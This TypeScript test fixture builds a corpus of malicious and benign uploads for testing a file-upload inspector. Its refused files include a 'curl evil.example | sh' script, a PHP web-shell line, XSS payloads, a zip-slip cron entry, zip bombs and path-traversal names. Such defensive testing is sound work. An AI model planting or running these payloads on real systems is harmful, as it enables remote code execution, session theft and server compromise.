import * as sample from './test-samples';

/**
 * The upload corpus (R6): files an attacker would try, each with the rule its refusal must name,
 * and the real files that must still pass. The API suite uploads every one through the real
 * server; the unit suite streams every one through the inspector in several chunk sizes.
 */
export interface CorpusFile {
  label: string;
  name: string;
  bytes: Buffer;
  /** Words the refusal must contain; null when the file must be accepted. */
  refusal: string | null;
  /** The name it is stored under, when accepted and not the name given. */
  storedAs?: string;
}

const WORD = 'must be a Word document';
const PDF = 'must have a PDF’s structure';
const MACROS = 'with macros';
const CORRUPT = 'complete, readable Word document';
const PROGRAMS = 'programs or other archives';
const BOMB = 'unpack to at most 100 MB';
const WEB_PAGE = 'also holds a web page';
const ARCHIVE = 'also a ZIP archive';
const CONTENT = 'its content is not what';
const EXTENSION = 'its extension is not one of';

/** A .docx whose central directory declares `size` unpacked bytes for word/document.xml. */
function docxDeclaring(size: number): Buffer {
  const docx = Buffer.from(sample.sampleDocx());
  // The name appears twice: in its local header, then in its central directory entry (46 bytes in).
  const inDirectory = docx.indexOf('word/document.xml', docx.indexOf('word/document.xml') + 1);
  docx.writeUInt32LE(size, inDirectory - 46 + 24);
  return docx;
}

/** A real deflate bomb: 20 MiB of zeros packed into ~20 KB, declared honestly. */
function deflateBomb(): Buffer {
  return sample.sampleDocx(true, [{ name: 'word/media/image1.png', data: Buffer.alloc(20 * 1024 * 1024) }]);
}

/** Zips within zips: each level one entry holding the level below. */
function nestedZips(depth: number): Buffer {
  let inner: Buffer = Buffer.alloc(1024 * 1024);
  for (let level = 0; level < depth; level += 1) inner = sample.zip([{ name: `level${level}.zip`, data: inner }], true);
  return sample.sampleDocx(true, [{ name: 'word/embeddings/nested.zip', data: inner }]);
}

/** A .docx with its central directory's first local-header offset pointing into nowhere. */
function docxWithBrokenDirectory(): Buffer {
  const docx = Buffer.from(sample.sampleDocx());
  const central = docx.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  docx.writeUInt32LE(7, central + 42);
  return docx;
}

const exeAfterPdfHeader = () =>
  Buffer.concat([Buffer.from('%PDF-1.4\n', 'latin1'), sample.sampleExe(), Buffer.alloc(4096, 0x90)]);
const jpegComment = (text: string) => {
  const jpeg = sample.sampleJpeg();
  const payload = Buffer.from(text, 'latin1');
  const segment = Buffer.alloc(4);
  segment.set([0xff, 0xfe], 0);
  segment.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 20), segment, payload, jpeg.subarray(20)]);
};
const html = '<html><body><script>alert(document.cookie)</script></body></html>';

/** Files that must be refused (415 attachment_type_not_allowed), each with the rule named. */
export const refusedFiles: CorpusFile[] = [
  // Compound Files that are not Word documents
  { label: 'an MSI installer renamed .doc', name: 'setup.doc', bytes: sample.sampleMsi(), refusal: WORD },
  { label: 'an Excel 97 workbook renamed .doc', name: 'budget.doc', bytes: sample.sampleXls(), refusal: WORD },
  {
    label: 'a Word 97 document with macros',
    name: 'invoice.doc',
    bytes: sample.sampleDocWithMacros(),
    refusal: MACROS,
  },
  {
    label: 'a bare Compound File header as .doc',
    name: 'empty.doc',
    bytes: sample.compoundFile([]).subarray(0, 1024),
    refusal: WORD,
  },
  // PDFs in name only
  { label: '%PDF-1.4 followed by a Windows program', name: 'statement.pdf', bytes: exeAfterPdfHeader(), refusal: PDF },
  {
    label: 'a PDF without a cross-reference table',
    name: 'noxref.pdf',
    bytes: Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n', 'latin1'),
    refusal: PDF,
  },
  { label: 'a PDF cut off before its end', name: 'cut.pdf', bytes: sample.samplePdf().subarray(0, 150), refusal: PDF },
  {
    label: 'a PDF whose startxref points past its end',
    name: 'far.pdf',
    bytes: Buffer.from(
      sample
        .samplePdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n99999999'),
      'latin1',
    ),
    refusal: PDF,
  },
  // CSV that is not data
  {
    label: 'a shell script renamed .csv',
    name: 'data.csv',
    bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
    refusal: 'not a script',
  },
  {
    label: 'a script with a byte-order mark renamed .csv',
    name: 'bom.csv',
    bytes: Buffer.from('\ufeff#!/usr/bin/env python\nimport os\n'),
    refusal: 'not a script',
  },
  {
    label: 'an HTML page after a CSV header',
    name: 'report.csv',
    bytes: Buffer.from(`name,value\n${html}\n`),
    refusal: 'not a web page',
  },
  { label: 'an HTML page renamed .csv', name: 'page.csv', bytes: sample.sampleHtml(), refusal: 'not a web page' },
  {
    label: 'an SVG handler in a CSV cell',
    name: 'cells.csv',
    bytes: Buffer.from('a,b\n1,"<svg onload=alert(1)>"\n'),
    refusal: 'not a web page',
  },
  {
    label: 'PHP in a CSV',
    name: 'php.csv',
    bytes: Buffer.from('a,b\n1,<?php system($_GET[c]); ?>\n'),
    refusal: 'not a web page',
  },
  {
    label: 'UTF-16 text as .csv',
    name: 'utf16.csv',
    bytes: Buffer.from('a,b\n1,2\n', 'utf16le'),
    refusal: 'UTF-8 text',
  },
  {
    label: 'a CSV cut inside a UTF-8 character',
    name: 'cut.csv',
    bytes: Buffer.from([0x61, 0x2c, 0xc3]),
    refusal: 'UTF-8 text',
  },
  // .docx that are not sound Word documents
  {
    label: 'a .docx carrying vbaProject.bin',
    name: 'macro.docx',
    bytes: sample.sampleDocx(true, [{ name: 'word/vbaProject.bin', data: sample.compoundFile([]) }]),
    refusal: MACROS,
  },
  {
    label: 'a .docx carrying ActiveX controls',
    name: 'activex.docx',
    bytes: sample.sampleDocx(true, [{ name: 'word/activeX/activeX1.xml', data: '<ax/>' }]),
    refusal: 'ActiveX',
  },
  {
    label: 'a .docx cut in half',
    name: 'half.docx',
    bytes: sample.sampleDocx().subarray(0, Math.floor(sample.sampleDocx().length / 2)),
    refusal: CORRUPT,
  },
  {
    label: 'a .docx whose directory points into nowhere',
    name: 'broken.docx',
    bytes: docxWithBrokenDirectory(),
    refusal: CORRUPT,
  },
  {
    label: 'a .docx without word/document.xml',
    name: 'hollow.docx',
    bytes: sample.zip([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'word/x.xml', data: '<x/>' },
    ]),
    refusal: CONTENT,
  },
  {
    label: 'a .docx with a ../ path inside (zip slip)',
    name: 'slip.docx',
    bytes: sample.sampleDocx(true, [{ name: '../../etc/cron.d/x', data: '* * * * * root sh' }]),
    refusal: CORRUPT,
  },
  {
    label: 'a .docx carrying a Windows program',
    name: 'payload.docx',
    bytes: sample.sampleDocx(true, [{ name: 'word/embeddings/update.exe', data: sample.sampleExe() }]),
    refusal: PROGRAMS,
  },
  {
    label: 'a zip bomb .docx declaring 4 GB unpacked',
    name: 'bomb.docx',
    bytes: docxDeclaring(0xfffffff0),
    refusal: BOMB,
  },
  {
    label: 'a zip bomb .docx: 20 MiB of zeros packed into kilobytes',
    name: 'zeros.docx',
    bytes: deflateBomb(),
    refusal: BOMB,
  },
  { label: 'a .docx nesting zips five deep', name: 'nested.docx', bytes: nestedZips(5), refusal: PROGRAMS },
  {
    label: 'a plain zip renamed .docx',
    name: 'archive.docx',
    bytes: sample.zip([{ name: 'a.txt', data: 'hi' }]),
    refusal: CONTENT,
  },
  // Polyglots: one file, two kinds
  {
    label: 'a JPEG that is also a ZIP',
    name: 'photo.jpg',
    bytes: Buffer.concat([sample.sampleJpeg(), sample.zip([{ name: 'run.exe', data: sample.sampleExe() }])]),
    refusal: ARCHIVE,
  },
  {
    label: 'a PNG that is also a ZIP',
    name: 'chart.png',
    bytes: Buffer.concat([sample.samplePng(), sample.sampleDocx()]),
    refusal: ARCHIVE,
  },
  {
    label: 'a PDF that is also a ZIP',
    name: 'both.pdf',
    bytes: Buffer.concat([sample.samplePdf(), sample.zip([{ name: 'a.js', data: 'x' }])]),
    refusal: ARCHIVE,
  },
  { label: 'a PDF that is also a web page', name: 'page.pdf', bytes: sample.samplePdf(html), refusal: WEB_PAGE },
  { label: 'a JPEG whose comment is a web page', name: 'selfie.jpeg', bytes: jpegComment(html), refusal: WEB_PAGE },
  {
    label: 'a PNG with a program after its end',
    name: 'scan.png',
    bytes: Buffer.concat([sample.samplePng(), sample.sampleExe()]),
    refusal: 'must end where its image ends',
  },
  {
    label: 'a JPEG with a program after its end',
    name: 'scan.jpg',
    bytes: Buffer.concat([sample.sampleJpeg(), sample.sampleExe()]),
    refusal: 'must end where its image ends',
  },
  // Renamed programs and other kinds
  { label: 'a Windows program renamed .pdf', name: 'invoice.pdf', bytes: sample.sampleExe(), refusal: CONTENT },
  { label: 'a Windows program renamed .doc', name: 'letter.doc', bytes: sample.sampleExe(), refusal: WORD },
  { label: 'a Windows program renamed .docx', name: 'letter.docx', bytes: sample.sampleExe(), refusal: CONTENT },
  { label: 'a Windows program renamed .png', name: 'logo.png', bytes: sample.sampleExe(), refusal: CONTENT },
  { label: 'an SVG renamed .jpg', name: 'vector.jpg', bytes: sample.sampleSvg(), refusal: WEB_PAGE },
  { label: 'a GIF renamed .png', name: 'anim.png', bytes: sample.sampleGif(), refusal: CONTENT },
  { label: 'a .doc renamed .docx', name: 'old.docx', bytes: sample.sampleDoc(), refusal: CONTENT },
  // Names that try to pass for something else
  {
    label: 'a right-to-left override hiding .exe',
    name: 'report\u202efdp.exe',
    bytes: sample.samplePdf(),
    refusal: EXTENSION,
  },
  { label: 'a trailing dot after .pdf', name: 'scan.pdf.', bytes: sample.samplePdf(), refusal: EXTENSION },
  { label: 'a name of dots and slashes only', name: '../..', bytes: sample.samplePdf(), refusal: EXTENSION },
  { label: 'a name that is only an extension', name: '.pdf', bytes: sample.samplePdf(), refusal: EXTENSION },
  { label: 'a double extension ending .exe', name: 'scan.pdf.exe', bytes: sample.sampleExe(), refusal: EXTENSION },
];

/** Files that must be accepted, under the name given or the sanitized one. */
export const acceptedFiles: CorpusFile[] = [
  { label: 'a real PDF', name: 'Intake form.pdf', bytes: sample.samplePdf(), refusal: null },
  {
    label: 'a PDF with an incremental update',
    name: 'updated.pdf',
    bytes: Buffer.concat([
      sample.samplePdf(),
      Buffer.from(
        `1 0 obj <</Type /Catalog>> endobj\nxref\n0 1\n0000000000 65535 f \ntrailer <</Size 2 /Root 1 0 R>>\nstartxref\n${sample.samplePdf().length}\n%%EOF\n`,
        'latin1',
      ),
    ]),
    refusal: null,
  },
  { label: 'a PNG', name: 'scan.png', bytes: sample.samplePng(), refusal: null },
  { label: 'a JPEG', name: 'photo.jpg', bytes: sample.sampleJpeg(), refusal: null },
  { label: 'a JPEG named .jpeg', name: 'PHOTO.JPEG', bytes: sample.sampleJpeg(), refusal: null },
  { label: 'a Word 97 document', name: 'letter.doc', bytes: sample.sampleDoc(), refusal: null },
  { label: 'a .docx (deflated)', name: 'plan.docx', bytes: sample.sampleDocx(true), refusal: null },
  { label: 'a .docx (stored)', name: 'stored.docx', bytes: sample.sampleDocx(false), refusal: null },
  {
    label: 'a .docx with an embedded chart workbook',
    name: 'chart.docx',
    bytes: sample.sampleDocx(true, [
      {
        name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
        data: sample.zip([{ name: 'xl/workbook.xml', data: '<workbook/>' }]),
      },
    ]),
    refusal: null,
  },
  { label: 'a CSV', name: 'mood log.csv', bytes: sample.sampleCsv(), refusal: null },
  {
    label: 'a CSV with a byte-order mark, accents and comparisons',
    name: 'doses.csv',
    bytes: Buffer.from('\ufeffdrug,dose\nSertraline,<50 mg\nmood,a<b & c>d, ♥ <3\n'),
    refusal: null,
  },
  {
    label: 'a path in the name',
    name: '../../etc/passwd.pdf',
    bytes: sample.samplePdf(),
    refusal: null,
    storedAs: 'passwd.pdf',
  },
  { label: 'a folder in the name', name: 'a/b.pdf', bytes: sample.samplePdf(), refusal: null, storedAs: 'b.pdf' },
  {
    label: 'a Windows path in the name',
    name: 'C:\\Users\\me\\scan.pdf',
    bytes: sample.samplePdf(),
    refusal: null,
    storedAs: 'scan.pdf',
  },
  {
    label: 'a NUL in the name',
    name: 'in\u0000voice.pdf',
    bytes: sample.samplePdf(),
    refusal: null,
    storedAs: 'invoice.pdf',
  },
  {
    label: 'bidi isolates in the name',
    name: '\u2067scan\u2069.pdf',
    bytes: sample.samplePdf(),
    refusal: null,
    storedAs: 'scan.pdf',
  },
  {
    label: 'a very long name',
    name: `${'n'.repeat(1000)}.pdf`,
    bytes: sample.samplePdf(),
    refusal: null,
    storedAs: `${'n'.repeat(251)}.pdf`,
  },
  { label: 'markup in the name', name: '<img src=x onerror=alert(1)>.pdf', bytes: sample.samplePdf(), refusal: null },
];
